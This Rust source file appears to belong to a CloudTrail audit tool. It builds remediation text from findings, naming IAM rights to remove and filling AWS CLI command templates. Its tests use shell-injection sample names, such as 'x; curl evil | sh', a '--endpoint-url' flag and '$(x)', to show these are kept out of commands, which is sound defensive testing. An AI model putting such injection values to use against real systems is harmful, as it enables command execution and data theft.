//! What to do about the failures of one check, with the names that its findings give.

use std::collections::BTreeSet;

use super::Audit;
use crate::finding::{Finding, Subject, SubjectKind};

/// How many subjects are named; the others are counted, and listed beside.
const NAMED: usize = 3;

/// One text for all findings of a check.
pub(super) fn remediation(audit: &Audit, check: &str, findings: &[&Finding]) -> String {
    let fix = audit.check(check).map_or("", |it| it.fix.as_str());
    let rights: Vec<Right<'_>> = findings.iter().filter_map(|it| Right::of(it)).collect();
    if rights.is_empty() {
        commands(fix, findings)
    } else {
        take_away(audit, &rights)
    }
}

/// What a principal may do, as the finding proves it.
struct Right<'a> {
    principal: &'a Subject,
    actions: BTreeSet<&'a str>,
    targets: BTreeSet<&'a str>,
}

impl<'a> Right<'a> {
    fn of(finding: &'a Finding) -> Option<Self> {
        if finding.subject.kind != SubjectKind::Principal {
            return None;
        }
        let mut right = Self {
            principal: &finding.subject,
            actions: BTreeSet::new(),
            targets: BTreeSet::new(),
        };
        for evidence in finding.evidence.iter().filter(|it| is_action(&it.what)) {
            let target = evidence.seen.as_ref().and_then(|it| it.get("target"));
            if let Some(target) = target.and_then(|it| it.as_str()) {
                right.actions.insert(&evidence.what);
                right.targets.insert(target);
            }
        }
        (!right.actions.is_empty()).then_some(right)
    }
}

/// `cloudtrail:StopLogging`.
fn is_action(text: &str) -> bool {
    let word = |text: &str| {
        !text.is_empty()
            && text
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"-*".contains(&b))
    };
    text.split_once(':')
        .is_some_and(|(service, name)| word(service) && word(name))
}

/// `a`, `a and b`, `a, b, c and 2 more`.
fn some<'a>(words: impl IntoIterator<Item = &'a str>) -> String {
    let all: Vec<&str> = words.into_iter().collect();
    let named: Vec<&str> = all.iter().take(NAMED).copied().collect();
    let more = all.len() - named.len();
    match (named.as_slice(), more) {
        ([first, second], 0) => format!("{first} and {second}"),
        (_, 0) => named.join(", "),
        (_, more) => format!("{} and {more} more", named.join(", ")),
    }
}

fn take_away(audit: &Audit, rights: &[Right<'_>]) -> String {
    let each = rights.iter().take(NAMED).map(|right| {
        format!(
            "{} on {} from {}",
            some(right.actions.iter().copied()),
            some(right.targets.iter().copied()),
            right.principal.id
        )
    });
    let mut text = format!("Remove {}", each.collect::<Vec<_>>().join("; remove "));
    let more = rights.len().saturating_sub(NAMED);
    if more > 0 {
        text.push_str(&format!("; and so for {more} more"));
    }
    text.push_str(". Or deny it in an SCP that exempts a break-glass role");
    let management = audit.scope.management_account.as_ref();
    if let Some(account) = management.filter(|id| {
        let mut owners = rights.iter().filter_map(|it| it.principal.account.as_ref());
        owners.any(|owner| owner == *id)
    }) {
        text.push_str(&format!(
            " (SCPs do not apply to the management account {account})"
        ));
    }
    text.push_str(": `trailaudit access --explain` prints a statement.");
    text
}

/// The check's own words; its commands for the subjects of the findings.
fn commands(fix: &str, findings: &[&Finding]) -> String {
    let Some(first) = findings.first().map(|it| &it.subject) else {
        return fix.to_owned();
    };
    let key = findings.first().and_then(|it| object(it));
    let filled = fill(fix, first, key);
    let mut text = filled.text;
    if findings.len() == 1 && !filled.commands.is_empty() {
        return text;
    }
    if filled.commands.is_empty() {
        let ids = findings.iter().map(|it| it.subject.id.as_str());
        return format!("{text} Concerns {}.", some(ids));
    }
    // Chains of one trail have the same commands: once is enough.
    let mut named: BTreeSet<String> = filled.commands.into_iter().collect();
    let (mut others, mut more, mut subjects) = (Vec::new(), 0, 1);
    for finding in findings.iter().skip(1) {
        if subjects == NAMED {
            more += 1;
            continue;
        }
        let commands = fill(fix, &finding.subject, object(finding)).commands;
        let new = commands.into_iter().filter(|it| named.insert(it.clone()));
        let new: Vec<String> = new.map(|command| format!("`{command}`")).collect();
        subjects += usize::from(!new.is_empty());
        others.extend(new);
    }
    if !others.is_empty() {
        text.push_str(&format!(" Likewise {}", others.join(", ")));
    }
    if more > 0 {
        text.push_str(&format!(" and {more} more"));
    }
    if !others.is_empty() || more > 0 {
        text.push('.');
    }
    text
}

/// A text with the subject's names in its commands.
struct Filled {
    text: String,
    /// The commands in which something was filled in.
    commands: Vec<String>,
}

/// The key of the object that a finding on a chain names first.
fn object(finding: &Finding) -> Option<&str> {
    if finding.subject.kind != SubjectKind::Chain {
        return None;
    }
    let (_, place) = finding.message.split_once("s3://")?;
    let (_, key) = place.split_once('/')?;
    key.split(": ").next()
}

fn fill(fix: &str, subject: &Subject, key: Option<&str>) -> Filled {
    let mut names = names(subject);
    names.extend(key.filter(|it| is_plain(it)).map(|it| ("KEY", it)));
    // A chain's region is that of its logs, not that of the bucket or the trail.
    let region = subject.region.as_ref();
    let region = region.filter(|_| subject.kind != SubjectKind::Chain);
    let mut filled = Filled {
        text: String::with_capacity(fix.len()),
        commands: Vec::new(),
    };
    // Between each two of the marks is code.
    for (at, part) in fix.split('`').enumerate() {
        if at > 0 {
            filled.text.push('`');
        }
        let command = (at % 2 == 1 && part.starts_with("aws "))
            .then(|| put(part, &names))
            .flatten();
        match command {
            Some(mut command) => {
                if let Some(region) = region.filter(|it| is_plain(it.as_str()))
                    && !command.contains("--region")
                {
                    command.push_str(&format!(" --region {region}"));
                }
                filled.text.push_str(&command);
                filled.commands.push(command);
            }
            None => filled.text.push_str(part),
        }
    }
    filled
}

/// What stands in the commands of the catalogue, and what this subject has there.
fn names(subject: &Subject) -> Vec<(&'static str, &str)> {
    let own: &[&'static str] = match subject.kind {
        SubjectKind::Trail => &["TRAIL", "TRAIL_ARN"],
        SubjectKind::Key => &["KEY"],
        SubjectKind::EventDataStore => &["STORE_ARN"],
        SubjectKind::LogGroup => &["GROUP_ARN"],
        SubjectKind::Bucket
        | SubjectKind::Organization
        | SubjectKind::Account
        | SubjectKind::Region
        | SubjectKind::Principal
        | SubjectKind::Chain
        | SubjectKind::Resource => &[],
    };
    let mut names: Vec<(&'static str, &str)> = own
        .iter()
        .map(|word| (*word, subject.id.as_str()))
        .collect();
    if subject.kind == SubjectKind::Bucket {
        names.push(("BUCKET", &subject.name));
    }
    if subject.kind == SubjectKind::LogGroup {
        names.push(("GROUP", &subject.name));
    }
    if let Some((_, path)) = subject.id.split_once(":role/") {
        names.push(("ROLE", path.rsplit('/').next().unwrap_or(path)));
    }
    if subject.kind == SubjectKind::Chain {
        names.extend(of_chain(&subject.id));
    }
    if subject.kind == SubjectKind::Trail {
        names.extend(
            subject
                .region
                .as_ref()
                .map(|it| ("HOME_REGION", it.as_str())),
        );
    }
    names.extend(subject.account.as_ref().map(|it| ("ACCOUNT", it.as_str())));
    let region = subject.region.as_ref();
    let region = region.filter(|_| subject.kind != SubjectKind::Chain);
    names.extend(region.as_ref().map(|it| ("REGION", it.as_str())));
    // A name that a shell would not take as one word stays out of a command.
    names.retain(|(_, name)| is_plain(name));
    names
}

/// `ACCOUNT/REGION/TRAIL_HOME/TRAIL@BUCKET/PREFIX`.
fn of_chain(id: &str) -> Vec<(&'static str, &str)> {
    let mut parts = id.splitn(4, '/').skip(2);
    let (Some(home), Some(rest)) = (parts.next(), parts.next()) else {
        return Vec::new();
    };
    let Some((trail, place)) = rest.split_once('@') else {
        return Vec::new();
    };
    let bucket = place.split('/').next().unwrap_or(place);
    vec![("TRAIL", trail), ("HOME_REGION", home), ("BUCKET", bucket)]
}

fn is_plain(text: &str) -> bool {
    !text.is_empty()
        && !text.starts_with('-')
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b":/._+=@,-".contains(&b))
}

/// The command with its placeholders replaced; none where it has none of these.
fn put(command: &str, names: &[(&str, &str)]) -> Option<String> {
    let mut out = String::with_capacity(command.len());
    let mut found = false;
    let is_word = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let mut rest = command;
    while !rest.is_empty() {
        let end = rest.find(|c| !is_word(c)).unwrap_or(rest.len());
        let (word, after) = rest.split_at(end);
        match names.iter().find(|(placeholder, _)| *placeholder == word) {
            Some((_, name)) => {
                found = true;
                out.push_str(name);
            }
            None => out.push_str(word),
        }
        let next = after.find(is_word).unwrap_or(after.len());
        let (between, after) = after.split_at(next);
        out.push_str(between);
        rest = after;
    }
    found.then_some(out)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::audit::answers::tests::audit;
    use crate::ids::{AccountId, Region};

    fn subject(kind: SubjectKind, id: &str, name: &str) -> Subject {
        Subject {
            kind,
            id: id.to_owned(),
            name: name.to_owned(),
            account: Some(AccountId::from("111111111111")),
            region: Some(Region::from("eu-west-1")),
            location: None,
        }
    }

    #[test]
    fn commands_name_the_subject_and_its_region() {
        let bucket = subject(SubjectKind::Bucket, "arn:aws:s3:::logs", "logs");
        let fix = "Call it: `aws s3api put-x --bucket BUCKET --as NAME`, not `BUCKET/*`.";
        assert_eq!(
            fill(fix, &bucket, None).text,
            "Call it: `aws s3api put-x --bucket logs --as NAME --region eu-west-1`, not `BUCKET/*`."
        );
        let fix = "`aws s3api put-x --bucket BUCKET --region REGION`";
        assert_eq!(
            fill(fix, &bucket, None).text,
            "`aws s3api put-x --bucket logs --region eu-west-1`"
        );
        let fix = "Call it: `aws s3api put-x --bucket BUCKET --as NAME`, not `BUCKET/*`.";
        let trail = subject(
            SubjectKind::Trail,
            "arn:aws:cloudtrail:eu-west-1:111111111111:trail/a",
            "a",
        );
        assert_eq!(fill(fix, &trail, None).text, fix);
        let hostile = subject(SubjectKind::Bucket, "arn:aws:s3:::x", "x; curl evil | sh");
        assert_eq!(fill(fix, &hostile, None).text, fix);
        let flag = subject(SubjectKind::Bucket, "arn:aws:s3:::x", "--endpoint-url=x");
        assert_eq!(fill(fix, &flag, None).text, fix);
    }

    #[test]
    fn commands_name_the_trail_and_bucket_of_a_chain() {
        let mut chain = subject(
            SubjectKind::Chain,
            "111111111111/eu-west-1/us-east-1/org@logs/p/",
            "org",
        );
        let fix = "`aws x --name TRAIL --region HOME_REGION`, `aws y --bucket BUCKET --prefix KEY`";
        assert_eq!(
            fill(fix, &chain, Some("p/a.json.gz")).text,
            "`aws x --name org --region us-east-1`, `aws y --bucket logs --prefix p/a.json.gz`"
        );
        chain.id = "o; x/r/us-east-1/a;b@$(x)/p".to_owned();
        assert_eq!(
            fill(fix, &chain, Some("a b")).text,
            "`aws x --name TRAIL --region us-east-1`, `aws y --bucket BUCKET --prefix KEY`"
        );
    }

    #[test]
    fn rights_are_named_with_their_targets_and_holders() {
        let audit = audit(
            &[("access-trail-stop", "critical", &["fail", "fail"])],
            |it| {
                it["scope"]["management_account"] = "000000000000".into();
                for (at, name) in [(0, "a"), (1, "b")] {
                    let account = format!("{at:012}");
                    it["findings"][at]["subject"] = json!({
                        "kind": "principal", "id": format!("arn:aws:iam::{account}:role/{name}"), "name": name,
                        "account": account, "region": null,
                    });
                    it["findings"][at]["evidence"] = json!([
                        {"what": "cloudtrail:StopLogging", "seen": {"target": "arn:aws:cloudtrail:r:1:trail/t"}},
                        {"what": "further rights", "seen": 3},
                    ]);
                }
            },
        );
        let findings: Vec<&Finding> = audit.findings.iter().collect();
        let text = remediation(&audit, "access-trail-stop", &findings);
        assert_eq!(
            text,
            "Remove cloudtrail:StopLogging on arn:aws:cloudtrail:r:1:trail/t from arn:aws:iam::000000000000:role/a; \
             remove cloudtrail:StopLogging on arn:aws:cloudtrail:r:1:trail/t from arn:aws:iam::000000000001:role/b. \
             Or deny it in an SCP that exempts a break-glass role (SCPs do not apply to the management account \
             000000000000): `trailaudit access --explain` prints a statement."
        );
    }
}
